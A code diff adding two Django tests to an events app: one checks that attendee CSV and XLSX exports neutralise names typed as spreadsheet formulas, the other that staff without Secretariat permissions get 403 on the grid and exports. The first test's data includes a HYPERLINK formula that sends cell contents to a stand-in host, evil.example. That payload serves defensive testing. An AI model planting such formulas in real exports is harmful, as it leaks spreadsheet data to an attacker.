@@ -91,3 +91,44 @@ def test_a_persons_feed_keeps_one_address(met, alice, monkeypatch):
     later = time.time() + 3600
     monkeypatch.setattr("django.core.signing.time.time", lambda: later)
     assert feed_token(user=alice, event=met.event) == first
+
+
+def test_names_typed_as_formulas_stay_text_in_the_attendee_exports(
+    secretariat_client, event, register, boras, alice
+):
+    # An organisation and a person name themselves so that a spreadsheet would
+    # run their names: the secretariat opening the export must see text.
+    boras.name = '=HYPERLINK("https://evil.example/?"&A1,"Borås")'
+    boras.save()
+    alice.full_name = "@SUM(1+1)"
+    alice.save()
+    register(event, boras, alice)
+
+    def export(fmt):
+        url = reverse("admin:events_event_export", args=[event.pk, "attendees", fmt])
+        return secretariat_client.get(url).content
+
+    [_headers, row] = list(csv.reader(io.StringIO(export("csv").decode())))
+    assert row[0] == f"'{boras.name}"
+    assert row[3].startswith("'@SUM(1+1)")
+    cell = load_workbook(io.BytesIO(export("xlsx"))).active["A2"]
+    assert cell.data_type == "s" and cell.value == f"'{boras.name}"
+
+
+def test_staff_without_the_events_permissions_cannot_open_the_grid_or_the_exports(
+    client, met, secretariat
+):
+    from tests.factories import UserFactory
+    from tests.otp import totp_device, verified_login
+
+    # Staff, past the second factor, but not in the Secretariat group.
+    colleague = UserFactory(email="intern@earlall.example", is_staff=True)
+    totp_device(colleague)
+    verified_login(client, colleague)
+    urls = [
+        reverse("admin:events_event_schedule", args=[met.event_id]),
+        reverse("admin:events_event_export", args=[met.event_id, "attendees", "csv"]),
+        reverse("admin:events_event_export", args=[met.event_id, "agenda", "xlsx"]),
+        reverse("admin:events_meeting_follow_up_match", args=[met.pk]),
+    ]
+    assert [client.get(url).status_code for url in urls] == [403] * 4
